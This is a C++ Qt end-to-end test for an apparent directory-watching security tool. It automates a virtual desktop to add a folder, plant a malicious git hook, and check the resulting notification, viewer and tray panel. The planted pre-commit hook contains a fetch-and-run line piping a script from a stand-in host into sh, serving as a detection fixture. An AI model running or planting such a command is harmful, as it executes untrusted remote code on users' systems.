// The whole application on a real, private desktop: Xvfb, a session bus, dunst and trayer. The real
// Tarnwick with the real twwatch beside it starts on an empty store; a directory is added through the
// real folder chooser (driven with xdotool), a malicious git hook appears in it, the finding is stored
// and announced by dunst, the notification's action opens the viewer, the tray icon opens the panel,
// the trash button empties it and the power button quits, leaving no watcher behind.
//
// Each step leaves a screenshot in the test's output folder (TW_E2E_OUTPUT_DIR).

#include "DesktopSession.h"
#include "WatcherProcesses.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>
#include <signal.h>

using tw::test::DesktopSession;

// The diagnostics (logs, a screenshot) are gathered only when the check fails.
#define E2E_VERIFY(condition)                                                                                \
    do {                                                                                                     \
        if (!(condition)) {                                                                                  \
            QFAIL(qPrintable(QStringLiteral("%1\n%2").arg(QStringLiteral(#condition), diagnostics())));      \
        }                                                                                                    \
    } while (false)

namespace {

const QString Tarnwick = QStringLiteral(TW_BIN_DIR "/Tarnwick");
const QString OutputDir = QStringLiteral(TW_E2E_OUTPUT_DIR);

struct Geometry
{
    int x = 0;
    int y = 0;
    int width = 0;
    int height = 0;
    bool valid = false;
};

} // namespace

class EndToEndTest : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void cleanupTestCase();
    void cleanup();
    void lateTrayIsPickedUp();
    void fromEmptyStoreToClearedPanel();

private:
    void startTray();
    QString trayWindow();
    // Starts Tarnwick on an empty store of its own, in a fresh home named `name`.
    void startApp(const QString& name);
    void quitThroughThePanel(const Geometry& panel);
    // Runs a desktop tool (xdotool, import) on the private display; its stdout, or empty on failure.
    QByteArray tool(const QString& program, const QStringList& arguments, int* exitCode = nullptr);
    QString findWindow(const QString& namePattern, bool onlyVisible = true);
    QString waitForWindow(const QString& namePattern, int timeoutMs = 20000);
    Geometry geometry(const QString& window);
    void click(int x, int y);
    void screenshot(const QString& name);
    // One window alone, for the README's pictures.
    void windowShot(const QString& window, const QString& name);
    int storedRows(const QString& table);
    QString diagnostics();

    std::unique_ptr<DesktopSession> m_desktop;
    QTemporaryDir m_dir;
    QProcess m_trayer;
    QProcess m_app;
    QString m_dataHome;
    QString m_storePath;
    QString m_logName;
};

void EndToEndTest::initTestCase()
{
    QVERIFY(QDir().mkpath(OutputDir));
    for (const QString& old : QDir(OutputDir).entryList({QStringLiteral("*.png"), QStringLiteral("*.log")})) {
        QFile::remove(OutputDir + QLatin1Char('/') + old);
    }
    m_desktop = std::make_unique<DesktopSession>();
    QVERIFY2(m_desktop->isUp(), qPrintable(m_desktop->error()));
}

void EndToEndTest::startTray()
{
    if (m_trayer.state() != QProcess::NotRunning) {
        return;
    }
    m_trayer.setProcessEnvironment(m_desktop->environment());
    m_trayer.setStandardOutputFile(OutputDir + QStringLiteral("/trayer.log"), QIODevice::Append);
    m_trayer.setStandardErrorFile(OutputDir + QStringLiteral("/trayer.log"), QIODevice::Append);
    m_trayer.start(QStringLiteral("trayer"),
                   {QStringLiteral("--edge"), QStringLiteral("top"), QStringLiteral("--align"),
                    QStringLiteral("right"), QStringLiteral("--widthtype"), QStringLiteral("request"),
                    QStringLiteral("--height"), QStringLiteral("24"), QStringLiteral("--SetDockType"),
                    QStringLiteral("true")});
    QVERIFY2(m_trayer.waitForStarted(10000), qPrintable(m_trayer.errorString()));
    QTRY_VERIFY_WITH_TIMEOUT(!trayWindow().isEmpty(), 15000);
}

QString EndToEndTest::trayWindow()
{
    return QString::fromLatin1(
        tool(QStringLiteral("xdotool"), {QStringLiteral("search"), QStringLiteral("--onlyvisible"),
                                         QStringLiteral("--classname"), QStringLiteral("^panel$")})
            .trimmed()
            .split('\n')
            .first());
}

void EndToEndTest::startApp(const QString& name)
{
    DesktopSession::stop(m_app, 5000);
    const QString home = m_dir.filePath(name);
    m_dataHome = home + QStringLiteral("/data");
    for (const QString& dir : {m_dataHome, home + QStringLiteral("/config"), home + QStringLiteral("/run")}) {
        QVERIFY(QDir().mkpath(dir));
    }
    QFile::setPermissions(home + QStringLiteral("/run"),
                          QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
    m_storePath = m_dataHome + QStringLiteral("/Tarnwick/Tarnwick/store.sqlite");

    QProcessEnvironment env = m_desktop->environment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), m_dataHome);
    env.insert(QStringLiteral("XDG_CONFIG_HOME"), home + QStringLiteral("/config"));
    env.insert(QStringLiteral("XDG_RUNTIME_DIR"), home + QStringLiteral("/run"));
    env.insert(QStringLiteral("XDG_STATE_HOME"), home + QStringLiteral("/state"));
    env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("xcb"));
    env.remove(QStringLiteral("QT_QPA_PLATFORMTHEME"));
    env.insert(QStringLiteral("LC_ALL"), QStringLiteral("C.UTF-8"));
    m_app.setProcessEnvironment(env);
    m_app.setProcessChannelMode(QProcess::MergedChannels);
    m_app.setStandardOutputFile(OutputDir + QStringLiteral("/tarnwick-") + name + QStringLiteral(".log"));
    m_logName = name;
    m_app.start(Tarnwick, {});
    QVERIFY2(m_app.waitForStarted(10000), qPrintable(m_app.errorString()));
}

void EndToEndTest::quitThroughThePanel(const Geometry& panel)
{
    // Power: the rightmost header button (26-point buttons, 8 from the edge).
    click(panel.x + panel.width - 8 - 13, panel.y + 8 + 13);
    E2E_VERIFY(m_app.waitForFinished(15000));
    QTRY_VERIFY_WITH_TIMEOUT(watchersFor(m_dataHome).isEmpty(), 15000);
}

void EndToEndTest::lateTrayIsPickedUp()
{
    QVERIFY(trayWindow().isEmpty());
    startApp(QStringLiteral("late-tray"));
    // No status area yet: the panel is an ordinary window, so the application is not invisible.
    const QString panelWindow = waitForWindow(QStringLiteral("^Findings$"));
    E2E_VERIFY(!panelWindow.isEmpty());
    QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
    QTest::qWait(300);
    screenshot(QStringLiteral("00-no-tray-panel-window"));

    startTray();
    const QString tray = trayWindow();
    // The icon is embedded once the tray asks for room for it.
    QTRY_VERIFY_WITH_TIMEOUT(geometry(trayWindow()).width >= 16, 15000);
    const Geometry trayGeometry = geometry(tray);
    click(trayGeometry.x + trayGeometry.width / 2, trayGeometry.y + trayGeometry.height / 2);
    QTest::qWait(500);
    const QString popup = waitForWindow(QStringLiteral("^Findings$"), 10000);
    E2E_VERIFY(!popup.isEmpty());
    const Geometry panel = geometry(popup);
    // Anchored under the icon now, at the panel's size.
    QCOMPARE(panel.width, 420);
    QCOMPARE(panel.height, 360);
    E2E_VERIFY(panel.y >= trayGeometry.y + trayGeometry.height - 1);
    screenshot(QStringLiteral("00-tray-picked-up"));
    quitThroughThePanel(panel);
}

void EndToEndTest::cleanup()
{
    // Whatever a failed step left running goes, by pid.
    DesktopSession::stop(m_app, 5000);
    if (!m_dataHome.isEmpty()) {
        for (qint64 pid : watchersFor(m_dataHome)) {
            ::kill(static_cast<pid_t>(pid), SIGKILL);
        }
    }
}

void EndToEndTest::cleanupTestCase()
{
    cleanup();
    DesktopSession::stop(m_trayer, 5000);
    m_desktop.reset();
}

QByteArray EndToEndTest::tool(const QString& program, const QStringList& arguments, int* exitCode)
{
    QProcess process;
    process.setProcessEnvironment(m_desktop->environment());
    process.start(program, arguments);
    if (!process.waitForFinished(15000)) {
        process.kill();
        process.waitForFinished(5000);
        if (exitCode) {
            *exitCode = -1;
        }
        return {};
    }
    if (exitCode) {
        *exitCode = process.exitCode();
    }
    return process.exitCode() == 0 ? process.readAllStandardOutput() : QByteArray();
}

QString EndToEndTest::findWindow(const QString& namePattern, bool onlyVisible)
{
    QStringList arguments{QStringLiteral("search")};
    if (onlyVisible) {
        arguments << QStringLiteral("--onlyvisible");
    }
    arguments << QStringLiteral("--name") << namePattern;
    const QList<QByteArray> ids = tool(QStringLiteral("xdotool"), arguments).trimmed().split('\n');
    return ids.isEmpty() ? QString() : QString::fromLatin1(ids.last()).trimmed();
}

QString EndToEndTest::waitForWindow(const QString& namePattern, int timeoutMs)
{
    QString id;
    QDeadlineTimer deadline(timeoutMs);
    while (!deadline.hasExpired()) {
        id = findWindow(namePattern);
        if (!id.isEmpty()) {
            return id;
        }
        QTest::qWait(200);
    }
    return {};
}

Geometry EndToEndTest::geometry(const QString& window)
{
    const QByteArray shell = tool(QStringLiteral("xdotool"),
                                  {QStringLiteral("getwindowgeometry"), QStringLiteral("--shell"), window});
    Geometry g;
    for (const QByteArray& line : shell.split('\n')) {
        const QList<QByteArray> pair = line.split('=');
        if (pair.size() != 2) {
            continue;
        }
        const int value = pair.at(1).trimmed().toInt();
        if (pair.at(0) == "X") {
            g.x = value;
        } else if (pair.at(0) == "Y") {
            g.y = value;
        } else if (pair.at(0) == "WIDTH") {
            g.width = value;
        } else if (pair.at(0) == "HEIGHT") {
            g.height = value;
        }
    }
    g.valid = g.width > 0 && g.height > 0;
    return g;
}

void EndToEndTest::click(int x, int y)
{
    tool(QStringLiteral("xdotool"), {QStringLiteral("mousemove"), QString::number(x), QString::number(y)});
    QTest::qWait(150);
    tool(QStringLiteral("xdotool"), {QStringLiteral("click"), QStringLiteral("1")});
}

void EndToEndTest::screenshot(const QString& name)
{
    tool(QStringLiteral("import"), {QStringLiteral("-window"), QStringLiteral("root"),
                                    OutputDir + QLatin1Char('/') + name + QStringLiteral(".png")});
}

void EndToEndTest::windowShot(const QString& window, const QString& name)
{
    tool(QStringLiteral("import"), {QStringLiteral("-window"), window,
                                    OutputDir + QStringLiteral("/window-") + name + QStringLiteral(".png")});
}

int EndToEndTest::storedRows(const QString& table)
{
    // A separate, read-only connection beside the application's own.
    int count = -1;
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("e2e"));
        db.setDatabaseName(m_storePath);
        db.setConnectOptions(QStringLiteral("QSQLITE_OPEN_READONLY;QSQLITE_BUSY_TIMEOUT=2000"));
        if (db.open()) {
            QSqlQuery query(db);
            if (query.exec(QStringLiteral("SELECT count(*) FROM ") + table) && query.next()) {
                count = query.value(0).toInt();
            }
            db.close();
        }
    }
    QSqlDatabase::removeDatabase(QStringLiteral("e2e"));
    return count;
}

QString EndToEndTest::diagnostics()
{
    screenshot(QStringLiteral("failure"));
    QFile log(OutputDir + QStringLiteral("/tarnwick-") + m_logName + QStringLiteral(".log"));
    QString text = QStringLiteral("--- Tarnwick log ---\n");
    if (log.open(QIODevice::ReadOnly)) {
        text += QString::fromUtf8(log.readAll().right(4000));
    }
    text += QStringLiteral("\n--- dunst ---\n");
    for (const auto& n : m_desktop->notifications()) {
        text += n.summary + QStringLiteral(" | ") + n.body + QLatin1Char('\n');
    }
    text += QStringLiteral("--- windows ---\n");
    text += QString::fromUtf8(
        tool(QStringLiteral("xdotool"), {QStringLiteral("search"), QStringLiteral("--onlyvisible"),
                                         QStringLiteral("--name"), QStringLiteral(".")}));
    return text + m_desktop->logs().right(3000);
}

void EndToEndTest::fromEmptyStoreToClearedPanel()
{
    startTray();
    startApp(QStringLiteral("first-launch"));
    const QString watched = m_dir.filePath(QStringLiteral("first-launch/work/project"));
    QVERIFY(QDir().mkpath(watched));

    // 1. First launch on an empty store: the directories window, and the watcher runs.
    const QString directories = waitForWindow(QStringLiteral("^Watched Directories$"));
    E2E_VERIFY(!directories.isEmpty());
    QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
    QTest::qWait(500);
    screenshot(QStringLiteral("01-directories-empty"));

    // 2. Add the folder through the real chooser: "+" at the header's right end, type the path, Open.
    const Geometry window = geometry(directories);
    E2E_VERIFY(window.valid);
    click(window.x + window.width - 25, window.y + 23);
    const QString chooser = waitForWindow(QStringLiteral("^Choose a directory to watch$"));
    E2E_VERIFY(!chooser.isEmpty());
    QTest::qWait(500);
    tool(QStringLiteral("xdotool"),
         {QStringLiteral("type"), QStringLiteral("--delay"), QStringLiteral("15"), watched});
    QTest::qWait(300);
    screenshot(QStringLiteral("02-folder-chooser"));
    // The completer may take the first Return; a second one opens.
    for (int attempt = 0;
         attempt < 3 && !findWindow(QStringLiteral("^Choose a directory to watch$")).isEmpty(); ++attempt) {
        tool(QStringLiteral("xdotool"), {QStringLiteral("key"), QStringLiteral("Return")});
        QTest::qWait(700);
    }
    E2E_VERIFY(findWindow(QStringLiteral("^Choose a directory to watch$")).isEmpty());
    // Kept without an explicit save: the main context saves by itself.
    QTRY_COMPARE_WITH_TIMEOUT(storedRows(QStringLiteral("directory")), 1, 10000);
    // The first directory turns starting at login on: an autostart entry that runs this program.
    QFile autostart(m_dir.filePath(QStringLiteral("first-launch/config/autostart/tarnwick.desktop")));
    QTRY_VERIFY_WITH_TIMEOUT(autostart.exists(), 10000);
    QVERIFY(autostart.open(QIODevice::ReadOnly));
    QVERIFY(autostart.readAll().contains("\nExec=" + QFile::encodeName(Tarnwick) + "\n"));
    QTest::qWait(500);
    screenshot(QStringLiteral("03-directories-added"));
    windowShot(directories, QStringLiteral("directories"));

    // 3. A git hook that downloads and runs a script.
    QVERIFY(QDir().mkpath(watched + QStringLiteral("/.git/hooks")));
    // Give the watcher a moment to set up its watches on the new folders before the hook lands.
    QTest::qWait(1500);
    const QString hook = watched + QStringLiteral("/.git/hooks/pre-commit");
    {
        QFile file(hook);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("#!/bin/sh\ncurl http://x.example/p.sh | sh\n");
    }
    QFile::setPermissions(hook, QFile::permissions(hook) | QFileDevice::ExeOwner);

    // 4. Stored and announced.
    QString summary;
    QDeadlineTimer deadline(30000);
    while (summary.isEmpty() && !deadline.hasExpired()) {
        for (const auto& n : m_desktop->notifications()) {
            if (n.summary.startsWith(QStringLiteral("\u26D4 Critical: ")) && n.body == hook) {
                summary = n.summary;
            }
        }
        QTest::qWait(200);
    }
    E2E_VERIFY(!summary.isEmpty());
    QVERIFY(summary.size() > QStringLiteral("\u26D4 Critical: ").size());
    QTRY_VERIFY_WITH_TIMEOUT(storedRows(QStringLiteral("finding")) >= 1, 10000);
    QTest::qWait(300);
    screenshot(QStringLiteral("04-notification"));

    // 5. The notification's action opens the viewer, titled with the file's name.
    QCOMPARE(m_desktop->dunstctl({QStringLiteral("action"), QStringLiteral("0")}), 0);
    const QString viewer = waitForWindow(QStringLiteral("^pre-commit$"));
    E2E_VERIFY(!viewer.isEmpty());
    QTest::qWait(1500);
    screenshot(QStringLiteral("05-viewer"));
    windowShot(viewer, QStringLiteral("viewer"));

    // 6. The tray icon opens the panel with the finding.
    const QString tray = trayWindow();
    const Geometry trayGeometry = geometry(tray);
    E2E_VERIFY(trayGeometry.valid);
    click(trayGeometry.x + trayGeometry.width / 2, trayGeometry.y + trayGeometry.height / 2);
    const QString panel = waitForWindow(QStringLiteral("^Findings$"), 10000);
    E2E_VERIFY(!panel.isEmpty());
    QTest::qWait(700);
    screenshot(QStringLiteral("06-panel"));
    windowShot(panel, QStringLiteral("panel"));
    const Geometry panelGeometry = geometry(panel);
    QCOMPARE(panelGeometry.width, 420);
    QCOMPARE(panelGeometry.height, 360);

    // 7. Trash: the third button from the right (26-point buttons, 4 apart, 8 from the edge).
    click(panelGeometry.x + panelGeometry.width - 8 - 26 * 2 - 4 * 2 - 13, panelGeometry.y + 8 + 13);
    QTRY_COMPARE_WITH_TIMEOUT(storedRows(QStringLiteral("finding")), 0, 10000);
    QTest::qWait(500);
    screenshot(QStringLiteral("07-panel-cleared"));

    // 8. Power: the application ends, and the watcher with it.
    quitThroughThePanel(panelGeometry);
}

QTEST_GUILESS_MAIN(EndToEndTest)
#include "EndToEndTest.moc"
